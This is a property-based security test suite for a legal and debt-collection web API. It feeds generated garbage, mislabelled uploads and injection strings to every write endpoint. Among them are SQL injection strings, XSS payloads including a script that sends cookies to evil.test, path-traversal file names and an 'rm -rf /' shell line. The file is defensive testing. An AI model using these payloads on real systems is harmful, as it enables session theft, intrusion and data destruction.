import fc from 'fast-check';
import type { Response } from 'supertest';
import { createAccount } from '../account-factory';
import { chatParties, messagesOf, sendMessage, startConversation } from '../chat-fixtures';
import { createFirm, firmAdmin, PASSWORD } from '../factories';
import { Client, collectorClient, startApi, TestApi } from '../harness';
import { AccessClass, ROUTE_ACCESS } from '../security/route-access';
import { routeTable } from '../security/route-table';
import { watchWrites, type WriteWatch } from '../write-watch';

/** Generated inputs per write endpoint (docs/SECURITY.md quotes the total). */
const RUNS_PER_ROUTE = 12;

/**
 * Writes whose body carries nothing to validate, or only optional fields (a sign-out, "mark as read", a cancel, a new
 * blank editor document): generated bodies are not garbage to them (unknown fields are ignored), so for these the
 * property is only "never a server error".
 */
const NO_INPUT = new Set([
  'POST /api/document_generations',
  'DELETE /collectors/api/logout',
  'DELETE /users/sign_out',
  'POST /pilot/completions/new_thread.json',
  'POST /collectors/api/users/rotate_auth_token',
  // Its filters are the query string, as apply_filters': the body carries nothing (its garbage queries: exports.int-spec.ts).
  'POST /collectors/api/export_accounts',
  'POST /collectors/api/remove_firm_payment_details',
  'POST /collectors/api/remove_bank_account',
  'POST /api/v1/conversations/:id/mark_as_read',
  'POST /api/v1/conversations/:id/opt_out',
  'POST /api/v1/conversations/:id/opt_in',
  'POST /api/v1/conversations/:id/cease',
  'DELETE /dev/mail/messages',
  'POST /dev/payments/advance_clock',
  'POST /my_dashboard/stash/cancel',
  'POST /my_dashboard/document/:id/archive',
  'PATCH /my_dashboard/document/:id/archive',
  'POST /my_dashboard/document/:id/reactivate',
  'PATCH /my_dashboard/document/:id/reactivate',
  'POST /api/plaid/link_token',
  'POST /api/plaid/demo/connections/:id/expire',
  'DELETE /api_controller/delete_lawyer_email/:id',
  'POST /api_controller/prepopulate_from_document_files/:id',
  'POST /my_dashboard/fetch_credit_report',
]);

/** Rows these tables gain from refused requests are part of refusing them (audit of a failed sign-in, sessions). */
const IGNORED_TABLES = new Set(['sessions', 'audit_events', 'idempotency_keys', 'mikro_orm_migrations']);

/** Field names used across the API, so generated objects reach the validators of real fields. */
const FIELDS = [
  'customer_document_id', 'id', 'offer', 'offers', 'offer_index', 'version', 'total_amount', 'number_of_payments',
  'first_payment_date', 'tiers', 'disclosures', 'file_number', 'email', 'password', 'password_confirmation',
  'current_password', 'auth_token', 'payment_date', 'payment_type', 'application_mode', 'cycle_count',
  'total_amount_cents', 'body', 'message', 'user', 'law_firm', 'metadata', 'address', 'card', 'step_name', 'inputs',
  'phone_number', 'consents_to_sms', 'court_name', 'selected_court_id', 'law_firm_name', 'selected_law_firm_id',
  'plaintiff_name', 'selected_plaintiff_id', 'signature_name', 'agree', 'reason', 'represented_by_attorney',
  'document_id', 'law_firm_id', 'routing_number', 'account_number', 'event_type', 'states', 'recipients', 'content',
  'userRequest', 'threadKey', 'rating', 'public_token', 'reset_password_token', 'as_of', 'can_view_full_ssn',
  'user_id', 'first_name', 'last_name', 'full_name', 'zip', 'ssn', 'birthdate', 'filters', 'query',
  // Prototype keys: a lookup by a request's key or value must use own keys only.
  '__proto__', 'constructor', 'toString', 'sort_by',
  'name', 'active', 'plaintiffs', 'min_lawsuit_amount_cents', 'max_lawsuit_amount_cents', 'auto_accept', 'auto_counter',
];

const deep = (levels: number): unknown => (levels === 0 ? 'bottom' : { a: deep(levels - 1) });

/** Values no field of this API accepts (wrong type, out of range, impossible dates, oversized, control characters). */
const garbageValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null, true, -1, -2147483649, 2 ** 53, 1e308, -1e308, '', '   ', 'NaN', 'Infinity', '2026-02-30', '1900-13-45',
    'yesterday', '9'.repeat(400), 'x'.repeat(100_000), '😀'.repeat(50_000), 'a\u0000b', '\u0000',
    "'; drop table users; --", '<script>alert(1)</script>', '{{7*7}}${7*7}', '../../../../etc/passwd',
    [], {}, [[[[[]]]]], deep(60), { $ne: null }, { __proto__: { admin: true } }, ['x', 1, null],
    // Unpaired surrogates (PostgreSQL refuses them in JSON, and would silently change them in text) and 1 MB strings
    // (a backtracking pattern would freeze on them). Prototype names are keys here (FIELDS): as values they are
    // plain words, which free-text fields accept.
    '\ud800', 'a\udc00b', '\ud83d\ud83d', 'a'.repeat(1_000_000), `a@${'.'.repeat(1_000_000)}@`,
  ),
  fc.integer({ min: -(2 ** 40), max: -1 }),
  fc.double({ noNaN: true }).filter((d) => !Number.isInteger(d)),
  fc.array(fc.constantFrom(null, -5, '', {}), { minLength: 1, maxLength: 5 }),
);

/** A body: an object of real field names with garbage values, or not an object at all, or nested far too deep. */
const garbageBody: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.dictionary(fc.constantFrom(...FIELDS), garbageValue, { minKeys: 1, maxKeys: 6 }), weight: 6 },
  { arbitrary: garbageValue.filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)), weight: 2 },
  { arbitrary: fc.constant(deep(300)), weight: 1 },
);

/**
 * Hostile input (docs/SECURITY.md): every write endpoint of the route table receives generated garbage
 * (fast-check) as a role allowed through its door; every answer must be a 4xx, and a refused request must leave
 * every table as it was.
 */
describe('hostile input to every write endpoint', () => {
  let api: TestApi;
  let watch: WriteWatch;
  const clientFor = new Map<string, Client>();
  let ids: { document: number; conversation: number };

  beforeAll(async () => {
    api = await startApi();
    const p = await chatParties(api);
    const conversation = await startConversation(p);
    const otherFirm = await createFirm(api.em());
    await createAccount(api.em(), otherFirm);
    const admin = await collectorClient(api, (await firmAdmin(api.em(), p.firm)).email, PASSWORD);
    ids = { document: p.doc.id, conversation };
    clientFor.set('signed_out', new Client(api));
    clientFor.set('consumer', p.consumer);
    clientFor.set('admin', admin);
    watch = await watchWrites(api.em(), IGNORED_TABLES);
  }, 60_000);
  afterAll(async () => {
    await watch?.stop();
    await api?.close();
  });

  function rolesFor(access: AccessClass): string[] {
    if (access === 'public') return ['signed_out'];
    if (access === 'consumer') return ['consumer'];
    if (access === 'party') return ['consumer', 'admin'];
    return ['admin'];
  }

  function pathOf(route: string): string {
    const pattern = route.split(' ')[1];
    const id = pattern.startsWith('/api/v1/conversations/') ? ids.conversation : ids.document;
    return pattern.replace(/:(\w+)/g, (_m, name: string) => (name === 'id' ? String(id) : /slug|signedId/i.test(name) ? 'no-such-thing' : '987654'));
  }

  async function send(client: Client, method: string, path: string, body: unknown): Promise<Response> {
    const token = await client.csrf();
    const req =
      method === 'POST' ? client.agent.post(path) : method === 'PUT' ? client.agent.put(path) : method === 'PATCH' ? client.agent.patch(path) : client.agent.delete(path);
    return req.set('X-CSRF-Token', token).set('Accept', 'application/json').set('Content-Type', 'application/json').send(JSON.stringify(body));
  }

  it('answers 4xx and writes nothing, for every write endpoint and generated input', async () => {
    const routes = routeTable(api.app).filter((r) => /^(POST|PUT|PATCH|DELETE) /.test(r) && ROUTE_ACCESS[r]);
    expect(routes.length).toBeGreaterThan(40);
    const findings: string[] = [];
    let tried = 0;
    for (const route of routes) {
      const method = route.split(' ')[0];
      for (const role of rolesFor(ROUTE_ACCESS[route])) {
        const client = clientFor.get(role)!;
        await fc.assert(
          fc.asyncProperty(garbageBody, async (body) => {
            const before = await watch.counts();
            const res = await send(client, method, pathOf(route), body);
            tried++;
            const after = await watch.counts();
            const shown = JSON.stringify(body)?.slice(0, 80);
            if (res.status >= 500) findings.push(`${route} as ${role}: ${res.status} for ${shown}`);
            else if (!NO_INPUT.has(route) && (res.status < 400 || res.status >= 500))
              findings.push(`${route} as ${role}: accepted ${res.status} for ${shown}`);
            else if (res.status >= 400 && watch.changed(before, after).length)
              findings.push(`${route} as ${role}: refused (${res.status}) but wrote ${watch.changed(before, after).join(', ')}`);
            return true;
          }),
          { numRuns: RUNS_PER_ROUTE, seed: 20261123 },
        );
      }
    }
    // docs/SECURITY.md quotes this number.
    expect(tried).toBeGreaterThan(routes.length * RUNS_PER_ROUTE - 1);
    expect(findings).toEqual([]);
  }, 600_000);

  /** Files whose bytes are not what their names and types claim, and names that try to escape a folder. */
  const mislabelledFile = fc.record({
    bytes: fc.oneof(
      fc.uint8Array({ minLength: 0, maxLength: 2048 }).map((a) => Buffer.from(a)),
      fc.constantFrom(
        Buffer.from('MZ\x90\x00 this is a windows program'),
        Buffer.from('<html><script>alert(1)</script></html>'),
        Buffer.from('#!/bin/sh\nrm -rf /\n'),
        Buffer.from('PK\x03\x04 not a word document'),
        Buffer.alloc(0),
      ),
    ),
    name: fc.constantFrom('summons.pdf', 'photo.png', 'scan.jpg', 'letter.docx', 'run.exe', '../../../etc/passwd.pdf', `${'a'.repeat(300)}.pdf`, 'noextension'),
    type: fc.constantFrom('application/pdf', 'image/png', 'image/jpeg', 'application/octet-stream', 'text/html'),
  });

  /** The multipart upload endpoints: where the file goes, who sends it, and the fields it travels with. */
  const UPLOADS: Array<{ route: string; role: string; field: string; fields: () => Record<string, string> }> = [
    { route: 'POST /api_controller/upload_file/:id', role: 'consumer', field: 'file', fields: () => ({}) },
    { route: 'POST /api/v1/conversations/:id/messages', role: 'consumer', field: 'message[attachments][]', fields: () => ({ 'message[body]': 'Here is the letter.' }) },
    { route: 'POST /api/v1/conversations/:id/messages', role: 'admin', field: 'message[attachments][]', fields: () => ({ 'message[body]': 'Please see the attached.' }) },
    { route: 'POST /collectors/api/upload_settlement_agreement', role: 'admin', field: 'files[]', fields: () => ({ customer_document_id: String(ids.document) }) },
    { route: 'POST /collectors/api/upload_debt_verification', role: 'admin', field: 'files[]', fields: () => ({ customer_document_id: String(ids.document) }) },
  ];

  it('refuses mislabelled and oversized files on every upload endpoint, and stores nothing', async () => {
    const findings: string[] = [];
    let tried = 0;
    const upload = async (u: (typeof UPLOADS)[number], file: { bytes: Buffer; name: string; type: string }) => {
      const client = clientFor.get(u.role)!;
      const token = await client.csrf();
      let req = client.agent.post(pathOf(u.route)).set('X-CSRF-Token', token).set('Accept', 'application/json');
      for (const [k, v] of Object.entries(u.fields())) req = req.field(k, v);
      return req.attach(u.field, file.bytes, { filename: file.name, contentType: file.type });
    };
    const check = async (u: (typeof UPLOADS)[number], file: { bytes: Buffer; name: string; type: string }) => {
      const before = await watch.counts();
      const res = await upload(u, file);
      tried++;
      const wrote = watch.changed(before, await watch.counts());
      if (res.status < 400 || res.status >= 500) findings.push(`${u.route} as ${u.role}: ${res.status} for ${file.name} (${file.bytes.length} bytes)`);
      else if (wrote.length) findings.push(`${u.route} as ${u.role}: refused (${res.status}) but wrote ${wrote.join(', ')}`);
    };
    for (const u of UPLOADS) {
      await fc.assert(
        fc.asyncProperty(mislabelledFile, async (file) => {
          await check(u, file);
          return true;
        }),
        { numRuns: RUNS_PER_ROUTE, seed: 20261123 },
      );
      // A real PDF, but over the 25 MB every upload allows.
      await check(u, { bytes: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(26 * 1024 * 1024, 0x20)]), name: 'big.pdf', type: 'application/pdf' });
    }
    // docs/SECURITY.md quotes this number.
    expect(tried).toBe(UPLOADS.length * (RUNS_PER_ROUTE + 1));
    expect(findings).toEqual([]);
  }, 300_000);

  /** SQL and HTML that a careless string concatenation or template would run. */
  const INJECTIONS = [
    "Robert'); DROP TABLE users;--",
    "' OR '1'='1' --",
    '<img src=x onerror=alert(1)>',
    '<script>document.location="https://evil.test/?c="+document.cookie</script>',
    '%_\\%\'"`${7*7}{{7*7}}',
  ];

  it('stores SQL and HTML in text fields as text and gives it back unchanged; the search treats it as text', async () => {
    const usersBefore = await api.em().getConnection().execute('select count(*)::int as n from users');
    const admin = clientFor.get('admin')!;
    const consumerClient = clientFor.get('consumer')!;
    for (const text of INJECTIONS) {
      // A collector's free-text field, then the accounts search over it.
      const fileNumber = text.slice(0, 100);
      const set = await admin.post('/collectors/api/update_file_number', { customer_document_id: ids.document, file_number: fileNumber });
      expect(set.status).toBe(200);
      // The search runs with the payload as its text; the id filter keeps the page to this account whatever else matches.
      const found = await admin.get(
        `/collectors/api/apply_filters?filters[search]=${encodeURIComponent(fileNumber)}&filters[customer_document_id]=${ids.document}`,
      );
      expect(found.status).toBe(200);
      expect(found.body.customer_info.map((r: { id: number }) => r.id)).toContain(ids.document);
      expect(found.body.customer_info.find((r: { id: number }) => r.id === ids.document).file_number).toBe(fileNumber.trim());
      // A consumer's chat message and blog comment.
      const sent = await sendMessage(consumerClient, ids.conversation, text);
      expect(sent.status).toBe(201);
      expect((await messagesOf(consumerClient, ids.conversation)).map((m) => m.attributes.body)).toContain(text);
      const comment = await consumerClient.post('/api/blog/articles/how-to-answer-a-summons-in-oregon/comments', { text });
      expect(comment.status).toBe(201);
      expect(comment.body.comment.text).toBe(text);
    }
    // Nothing ran: every table is still there and holds what it held.
    const usersAfter = await api.em().getConnection().execute('select count(*)::int as n from users');
    expect(usersAfter).toEqual(usersBefore);
    // The pages render text (React escapes it); the API answers JSON, never HTML built from input.
    const page = await consumerClient.get(`/api/v1/conversations/${ids.conversation}/messages`);
    expect(page.headers['content-type']).toMatch(/application\/json/);
  });
});
